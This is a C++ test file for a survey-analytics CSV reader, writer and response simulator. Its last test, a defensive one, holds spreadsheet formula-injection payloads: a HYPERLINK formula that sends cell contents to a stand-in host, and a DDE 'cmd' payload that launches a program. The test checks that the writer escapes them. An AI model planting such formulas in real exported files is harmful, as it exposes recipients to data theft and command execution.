// The response CSV reader and writer (analytics/csv.h) and the simulator, without the binary.
//
// The fast path (into an Accumulator) and the record path (into Responses) must agree with each
// other and with Accumulator::add on the same data, and both must name a bad cell exactly.
#include "suara/analytics/csv.h"
#include "suara/analytics/report.h"
#include "suara/analytics/simulate.h"

#include <catch2/catch.hpp>
#include <cstdlib>
#include <string>

using namespace suara::analytics;

namespace {

const InstrumentRegistry& registry() {
    static const InstrumentRegistry r = [] {
        auto loaded = loadDefaultInstruments();
        REQUIRE(loaded.ok());
        return std::move(loaded).value();
    }();
    return r;
}
const Instrument& servqual() {
    return *registry().find("servqual-ektp-18");
}
const Instrument& skm() {
    return *registry().find("skm-9");
}

std::string header18(std::string_view extra = "") {
    std::string h = "resp";
    for (char s : std::string_view("EP")) {
        for (int i = 1; i <= 18; ++i) h += "," + ratingColumnName(s, i);
    }
    return h + std::string(extra);
}
// A row of 36 ratings, all `v`, after a resp cell.
std::string row18(int resp, char v, std::string_view extra = "") {
    std::string r = std::to_string(resp);
    for (int i = 0; i < 36; ++i) {
        r += ',';
        r += v;
    }
    return r + std::string(extra);
}

std::string errorOf(std::string_view csv, const Instrument& ins = servqual()) {
    auto fast = readCsvAccumulator(csv, ins);
    auto records = readCsvRecords(csv, ins);
    REQUIRE_FALSE(fast.ok());
    REQUIRE_FALSE(records.ok());
    // Both paths name the same problem.
    CHECK(fast.error().message == records.error().message);
    return fast.error().message;
}

// What the record path reads, accumulated one response at a time.
Accumulator viaRecords(std::string_view csv, const Instrument& ins) {
    auto records = readCsvResponses(csv, ins);
    REQUIRE(records.ok());
    Accumulator acc(ins);
    for (const Response& r : *records) acc.add(r);
    return acc;
}

} // namespace

TEST_CASE("a plain paired CSV is read by both paths alike", "[cli][csv]") {
    std::string csv = header18(",gender,age_band") + "\n";
    csv += row18(1, '4', ",L,17-25") + "\n";
    csv += row18(2, '5', ",p,56+") + "\n";
    csv += row18(3, '0', ",,") + "\n";
    auto fast = readCsvAccumulator(csv, servqual());
    REQUIRE(fast.ok());
    CHECK(fast->responses() == 3);
    CHECK(fast->count(Scale::Perception, 0) == 2); // 0 = not answered
    CHECK(fast->sum(Scale::Expectation, 17) == 9);
    CHECK(fast->profileCounts()[0] == std::vector<uint64_t>{1, 1}); // "p" is matched case-insensitively
    CHECK(*fast == viaRecords(csv, servqual()));
    auto records = readCsvResponses(csv, servqual());
    REQUIRE(records.ok());
    CHECK(records->at(1).profile[ProfileField::Gender] == "P"); // stored as the canonical code
    CHECK(records->at(1).profile[ProfileField::AgeBand] == "56+");
}

TEST_CASE("BOM, CRLF, lower-case headers, quotes, spaces and blank lines are tolerated", "[cli][csv]") {
    std::string h = header18(",comment");
    for (char& c : h) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    std::string csv = "\xEF\xBB\xBF" + h + "\r\n";
    csv += row18(1, '3', ",\"plain, with comma\"") + "\r\n";
    csv += "\r\n"; // blank line
    std::string quoted = "2";
    for (int i = 0; i < 36; ++i)
        quoted += i == 5 ? ",\"4\"" : i == 6 ? ", 2 " : i == 7 ? ",05" : i == 8 ? "," : ",1";
    csv += quoted + ",\"she said \"\"ok\"\"\nand left\"\r\n";
    csv += row18(3, '2', ",") + "\n";
    auto fast = readCsvAccumulator(csv, servqual());
    REQUIRE(fast.ok());
    CHECK(fast->responses() == 3);
    CHECK(*fast == viaRecords(csv, servqual()));
    auto records = readCsvRecords(csv, servqual());
    REQUIRE(records.ok());
    const Response& r = records->responses[1];
    CHECK(int(r.expectation[5]) == 4);
    CHECK(int(r.expectation[6]) == 2);
    CHECK(int(r.expectation[7]) == 5);
    CHECK(int(r.expectation[8]) == 0);
    CHECK(r.comment == "she said \"ok\"\nand left");
    // resp is not a Response field: it is carried as an extra column.
    REQUIRE(records->extraColumns == std::vector<std::string>{"resp"});
    CHECK(records->extraValues[2] == std::vector<std::string>{"3"});
}

TEST_CASE("bad cells are named by file line and header name", "[cli][csv]") {
    const std::string h = header18(",gender") + "\n";
    auto withCell = [&](int line, const std::string& column, const std::string& value) {
        std::string csv = h;
        for (int l = 2; l <= 9; ++l) {
            std::string r = row18(l, '3', ",L");
            if (l == line) {
                const size_t col = static_cast<size_t>(
                    column == "gender" ? 37 : (column[0] == 'E' ? 0 : 18) + std::stoi(column.substr(1)));
                std::vector<std::string> cells;
                size_t start = 0;
                for (size_t i = 0; i <= r.size(); ++i) {
                    if (i == r.size() || r[i] == ',') {
                        cells.push_back(r.substr(start, i - start));
                        start = i + 1;
                    }
                }
                cells[col] = value;
                r.clear();
                for (size_t i = 0; i < cells.size(); ++i) r += (i ? "," : "") + cells[i];
            }
            csv += r + "\n";
        }
        return csv;
    };
    CHECK(errorOf(withCell(5, "P07", "abc")) ==
          "row 5, column P07: \"abc\" is not a rating (expected 1..5, blank or 0)");
    CHECK(errorOf(withCell(9, "E03", "6")) == "row 9, column E03: 6 is outside the scale 1..5");
    CHECK(errorOf(withCell(4, "E18", "-1")) ==
          "row 4, column E18: \"-1\" is not a rating (expected 1..5, blank or 0)");
    CHECK(errorOf(withCell(3, "P01", "3.5")) ==
          "row 3, column P01: \"3.5\" is not a rating (expected 1..5, blank or 0)");
    CHECK(errorOf(withCell(6, "P02", "12345678901")) ==
          "row 6, column P02: \"12345678901\" is not a rating (expected 1..5, blank or 0)");
    CHECK(errorOf(withCell(7, "gender", "X")) ==
          "row 7, column gender: \"X\" is not a known gender code (expected one of L, P, or blank)");
    CHECK(errorOf(withCell(8, "P18", "\"4")) == "row 8, column P18: unterminated quoted field");
    CHECK(errorOf(withCell(8, "P18", "\"4\"x")) ==
          "row 8, column P18: text after the closing quote (quotes inside a field must be doubled)");
}

TEST_CASE("structural problems: missing, duplicate and out-of-range columns, ragged rows", "[cli][csv]") {
    std::string noP07 = header18();
    noP07.erase(noP07.find(",P07"), 4);
    CHECK(errorOf(noP07 + "\n") == "missing column P07");
    CHECK(errorOf(header18(",p07") + "\n") == "column p07 appears twice in the header");
    CHECK(errorOf(header18(",E19") + "\n") == "column E19: servqual-ektp-18 has items 1..18");
    CHECK(errorOf("") == "empty file: there is no header row");
    CHECK(errorOf("\xEF\xBB\xBF\r\n\r\n") == "empty file: there is no header row");
    std::string ragged =
        header18() + "\n" + row18(1, '3') + "\n" + row18(2, '3').substr(0, 1 + 2 * 33) + "\n";
    CHECK(errorOf(ragged) == "row 3: 34 cells, header has 37");
    CHECK(errorOf(header18() + "\n" + row18(1, '3', ",") + "\n") == "row 2: 38 cells, header has 37");
    CHECK(errorOf(header18(",instrument") + "\n" + row18(1, '3', ",skm-9") + "\n") ==
          "row 2, column instrument: \"skm-9\" is not the instrument being read (servqual-ektp-18)");
    CHECK(errorOf("E01,Q01\n", skm()) == "column E01: skm-9 is single-scale and has no expectation ratings");
}

TEST_CASE("row numbers count physical lines across multi-line quoted cells", "[cli][csv]") {
    std::string csv = header18(",comment") + "\n";
    csv += row18(1, '3', ",\"line one\nline two\nline three\"") + "\n"; // lines 2-4
    csv += row18(2, '3', ",ok") + "\n";                                 // line 5
    csv += row18(3, '7', ",ok") + "\n";                                 // line 6
    CHECK(errorOf(csv) == "row 6, column E01: 7 is outside the scale 1..5");
}

TEST_CASE("single-scale files use Q columns, or P columns when there is no Q", "[cli][csv]") {
    std::string q = "Q01,Q02,Q03,Q04,Q05,Q06,Q07,Q08,Q09,gender\n4,3,4,4,2,3,4,4,3,L\n1,2,3,4,0,,4,4,4,P\n";
    CHECK(detectInstrumentId(q) == "skm-9");
    CHECK(detectInstrumentId(header18()) == "servqual-ektp-18");
    auto acc = readCsvAccumulator(q, skm());
    REQUIRE(acc.ok());
    CHECK(acc->responses() == 2);
    CHECK(*acc == viaRecords(q, skm()));
    std::string p = "p1,p2,p3,p4,p5,p6,p7,p8,p9\n4,3,4,4,2,3,4,4,3\n";
    auto viaP = readCsvAccumulator(p, skm());
    REQUIRE(viaP.ok());
    CHECK(viaP->sum(Scale::Perception, 4) == 2);
    CHECK(errorOf("Q01,Q02,Q03\n", skm()) == "missing column Q04");
    CHECK(errorOf("Q01,Q02,Q03,Q04,Q05,Q06,Q07,Q08,Q09\n5,3,4,4,2,3,4,4,3\n", skm()) ==
          "row 2, column Q01: 5 is outside the scale 1..4");
}

TEST_CASE("records written by appendResponseCsvRow read back equal", "[cli][csv]") {
    SimulateOptions options;
    options.seed = 42;
    Simulator sim(servqual(), options);
    std::vector<Response> written;
    for (int i = 0; i < 300; ++i) written.push_back(sim.next());
    written[0].comment = "koma, \"kutip\" dan\r\nbaris baru; ; , \"\"";
    written[1].comment = "  spasi di tepi  ";
    written[2].comment = "Pelayanan sangat baik \xF0\x9F\x91\x8D ramah";
    written[3].flags = {"too_fast", "straight_line"};
    written[4].uuid = "id,with,commas";
    written[5].expectation.assign(18, 0);
    written[5].perception.assign(18, 0);
    written[6].profile = Profile{};
    written[7].startedAtMs = 0;
    written[8].utcOffsetMinutes = 540;
    std::string csv = responsesCsvHeader(servqual());
    for (const Response& r : written) appendResponseCsvRow(csv, servqual(), r);
    auto read = readCsvRecords(csv, servqual());
    REQUIRE(read.ok());
    REQUIRE(read->responses.size() == written.size());
    for (size_t i = 0; i < written.size(); ++i) {
        INFO("record " << i);
        CHECK(read->responses[i] == written[i]);
    }
    CHECK(read->extraColumns.empty());
    // The fast path reads the same file to the same statistics as adding the records directly.
    Accumulator direct(servqual());
    for (const Response& r : written) direct.add(r);
    auto fast = readCsvAccumulator(csv, servqual());
    REQUIRE(fast.ok());
    CHECK(*fast == direct);
}

TEST_CASE("single-scale records round-trip too", "[cli][csv]") {
    Simulator sim(skm(), SimulateOptions{});
    std::string csv = responsesCsvHeader(skm());
    CHECK(csv.find(",Q01,") != std::string::npos);
    CHECK(csv.find(",E01") == std::string::npos);
    std::vector<Response> written;
    for (int i = 0; i < 50; ++i) {
        written.push_back(sim.next());
        appendResponseCsvRow(csv, skm(), written.back());
    }
    auto read = readCsvResponses(csv, skm());
    REQUIRE(read.ok());
    CHECK(*read == written);
}

TEST_CASE("readCsvTable reads small side files and names ragged rows", "[cli][csv]") {
    auto t = readCsvTable("name,population\r\nPeracak,2172\r\n\"Negeri Ratu, Baru\",1006\r\n");
    REQUIRE(t.ok());
    CHECK(t->header == std::vector<std::string>{"name", "population"});
    REQUIRE(t->rows.size() == 2);
    CHECK(t->rows[1][0] == "Negeri Ratu, Baru");
    CHECK(t->lines == std::vector<size_t>{2, 3});
    auto ragged = readCsvTable("name,population\nA,1\nB\n");
    REQUIRE_FALSE(ragged.ok());
    CHECK(ragged.error().message == "row 3: 1 cells, header has 2");
}

TEST_CASE("the simulator is deterministic, plausible and pinned", "[cli][simulate]") {
    SimulateOptions options;
    options.responses = 4000;
    options.seed = 2026;
    std::string a, b, c;
    simulateCsv(servqual(), options, [&](std::string_view chunk) { a += chunk; });
    simulateCsv(servqual(), options, [&](std::string_view chunk) { b += chunk; });
    options.seed = 2027;
    simulateCsv(servqual(), options, [&](std::string_view chunk) { c += chunk; });
    CHECK(a == b);
    CHECK(a != c);

    // Pinned bytes: the same seed must give the same file on every platform and build. If the model
    // changes on purpose, update the hash (and say so: saved demo data will differ).
    SimulateOptions small;
    small.responses = 200;
    small.seed = 7;
    std::string pinned;
    simulateCsv(servqual(), small, [&](std::string_view chunk) { pinned += chunk; });
    uint64_t fnv = 1469598103934665603ULL;
    for (unsigned char ch : pinned) fnv = (fnv ^ ch) * 1099511628211ULL;
    CHECK(fnv == 0x2bb2f5f58738e31aULL);

    auto acc = readCsvAccumulator(a, servqual());
    REQUIRE(acc.ok());
    const Report report = buildReport(servqual(), *acc);
    CHECK(report.n == 4000);
    REQUIRE(report.expectationReliability);
    CHECK(report.perceptionReliability.alpha > 0.8);
    CHECK(report.perceptionReliability.alpha < 0.95);
    CHECK(report.expectationReliability->alpha > 0.75);
    CHECK(report.expectationReliability->alpha < 0.95);
    CHECK(report.perceptionReliability.n > 3000); // a few percent skip answers, most are complete
    CHECK(report.perceptionReliability.n < 4000);
    bool quadrants[4] = {};
    for (const ItemReport& item : report.items) {
        CHECK(item.gap < -0.3);
        CHECK(item.gap > -1.7);
        quadrants[static_cast<int>(item.quadrant)] = true;
    }
    CHECK((quadrants[0] && quadrants[1] && quadrants[2] && quadrants[3]));
    REQUIRE(report.overall);
    CHECK(report.overall->gap < -0.5);
    CHECK(report.overall->gap > -1.5);
    for (const ProfileBreakdown& field : report.profile) CHECK(field.answered > 3500);

    SimulateOptions q;
    q.responses = 2000;
    std::string skmCsv;
    simulateCsv(skm(), q, [&](std::string_view chunk) { skmCsv += chunk; });
    CHECK(detectInstrumentId(skmCsv) == "skm-9");
    auto skmAcc = readCsvAccumulator(skmCsv, skm());
    REQUIRE(skmAcc.ok());
    const Report skmReport = buildReport(skm(), *skmAcc);
    REQUIRE(skmReport.ikm);
    CHECK(skmReport.ikm->value > 65.0);
    CHECK(skmReport.ikm->value < 90.0);
    CHECK(skmReport.perceptionReliability.alpha > 0.7);
}

TEST_CASE("fast and record paths agree on thousands of mutated files", "[cli][csv]") {
    // A differential check of the fused scanner against the tokenizer: random byte edits
    // (delimiters, quotes, line breaks, digits, junk) must never make the two paths disagree.
    // The record path checks more columns (times, numbers), so: records ok => fast ok and equal;
    // fast fails => records fail.
    SimulateOptions small;
    small.responses = 25;
    small.seed = 3;
    std::string compact, full;
    simulateCsv(servqual(), small, [&](std::string_view chunk) { compact += chunk; });
    small.fullRecords = true;
    simulateCsv(servqual(), small, [&](std::string_view chunk) { full += chunk; });
    uint64_t state = 12345;
    auto next = [&state] {
        uint64_t z = (state += 0x9E3779B97F4A7C15ULL);
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
        return z ^ (z >> 31);
    };
    const char alphabet[] = {',', '"', '\n', '\r', ' ', '0', '1', '3', '5', '6', '9', 'x', 'L', '\0'};
    int agreedOk = 0, agreedError = 0;
    for (int iter = 0; iter < 3000; ++iter) {
        std::string csv = iter % 2 ? compact : full;
        const int edits = 1 + static_cast<int>(next() % 3);
        for (int e = 0; e < edits; ++e) {
            const size_t at = next() % csv.size();
            const char ch = alphabet[next() % sizeof alphabet];
            switch (next() % 3) {
            case 0: csv[at] = ch; break;
            case 1: csv.erase(at, 1); break;
            default: csv.insert(at, 1, ch); break;
            }
        }
        auto fast = readCsvAccumulator(csv, servqual());
        auto records = readCsvResponses(csv, servqual());
        if (records) {
            INFO("iteration " << iter);
            REQUIRE(fast.ok());
            Accumulator direct(servqual());
            for (const Response& r : *records) direct.add(r);
            CHECK(*fast == direct);
            ++agreedOk;
        } else if (!fast) {
            ++agreedError;
        }
        if (!fast) {
            INFO("iteration " << iter << ": " << fast.error().message);
            CHECK_FALSE(records.ok());
        }
    }
    // Both outcomes occur often enough for the check to mean something.
    CHECK(agreedOk > 300);
    CHECK(agreedError > 300);
}

TEST_CASE("CSV cells that a spreadsheet would run as formulas are guarded, and read back exactly",
          "[cli][csv][security]") {
    struct Case {
        std::string_view in, written;
    };
    // The written cell as it appears in the file (after RFC 4180 quoting).
    const Case cases[] = {
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klik\"\")\""},
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
        {"+1+1", "'+1+1"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
        {"\t=1", "\"'\t=1\""},
        {"\r=1", "\"'\r=1\""},
        {"  =1+1", "\"'  =1+1\""},
        {"\xEF\xBC\x9D"
         "1+1",
         "'\xEF\xBC\x9D"
         "1+1"}, // full-width =
        {"\xEF\xBC\xA0"
         "SUM(A1)",
         "'\xEF\xBC\xA0"
         "SUM(A1)"}, // full-width @
        {"\xEF\xBC\x8B"
         "1",
         "'\xEF\xBC\x8B"
         "1"}, // full-width +
        {"\xEF\xBC\x8D"
         "1",
         "'\xEF\xBC\x8D"
         "1"}, // full-width -
        {"\xE2\x88\x92"
         "1",
         "'\xE2\x88\x92"
         "1"}, // minus sign
        {"'=1", "''=1"},
        {"'apa", "''apa"},
        // Numbers stay numbers; ordinary text is untouched.
        {"-3", "-3"},
        {"+62", "+62"},
        {"-0.25", "-0.25"},
        {"1e-05", "1e-05"},
        {"4.5", "4.5"},
        {"pelayanan = baik", "pelayanan = baik"},
        {"a-b", "a-b"},
        {"", ""},
    };
    for (const Case& c : cases) {
        INFO("cell " << c.in);
        std::string out;
        appendCsvField(out, c.in);
        CHECK(out == c.written);
        auto table = readCsvTable("h\r\n" + out + "\r\n");
        if (c.in.empty()) continue; // a blank line is not a row
        REQUIRE(table.ok());
        REQUIRE(table->rows.size() == 1);
        CHECK(table->rows[0][0] == c.in);
    }
    // A leading apostrophe typed on paper (not followed by a formula start) is kept on reading.
    auto typed = readCsvTable("h\r\n'apa kabar\r\n");
    REQUIRE(typed.ok());
    CHECK(typed->rows[0][0] == "'apa kabar");

    // Whole records: a hostile comment, service and profile read back to the same records and the
    // same statistics through both reader paths (what `suara report` uses).
    Simulator sim(servqual(), SimulateOptions{});
    std::vector<Response> written;
    for (int i = 0; i < 40; ++i) written.push_back(sim.next());
    written[0].comment = "=HYPERLINK(\"http://evil.example\",\"klik\")";
    written[1].service = "=cmd|' /C calc'!A0";
    written[2].comment = "@SUM(1+1)*cmd|' /C calc'!A0";
    written[3].comment = "-1";
    written[4].kioskId = "+kiosk";
    std::string csv = responsesCsvHeader(servqual());
    for (const Response& r : written) appendResponseCsvRow(csv, servqual(), r);
    CHECK(csv.find(",\"'=HYPERLINK(") != std::string::npos);
    CHECK(csv.find(",'=cmd|") != std::string::npos);
    CHECK(csv.find(",=") == std::string::npos);
    CHECK(csv.find(",@") == std::string::npos);
    CHECK(csv.find(",-1\r\n") != std::string::npos); // a number is not guarded
    auto back = readCsvResponses(csv, servqual());
    REQUIRE(back.ok());
    CHECK(*back == written);
    Accumulator direct(servqual());
    for (const Response& r : written) direct.add(r);
    auto fast = readCsvAccumulator(csv, servqual());
    REQUIRE(fast.ok());
    CHECK(*fast == direct);
}
